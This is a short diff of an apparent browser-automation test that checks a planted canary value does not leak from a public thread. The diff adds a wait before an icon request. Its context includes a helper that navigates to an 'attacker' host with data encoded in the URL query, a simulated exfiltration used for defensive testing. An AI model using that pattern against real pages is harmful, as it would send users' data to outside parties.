@@ -21,6 +21,8 @@ test('a canary read in a public thread goes nowhere, and honest work goes on', {
     const away = (data) => hands.goto(urlOf('attacker', `/c?d=${encodeURIComponent(data)}`)).catch(() => undefined);
     await away(CANARY);
     assert.equal(arrived(), true, 'before it is planted it is a word like any other');
+    // Its icon is asked for late, and names the address that it is for.
+    await hands.wait(1_500);
     collector.records.length = 0;
 
     const popup = await openPopup(hands);
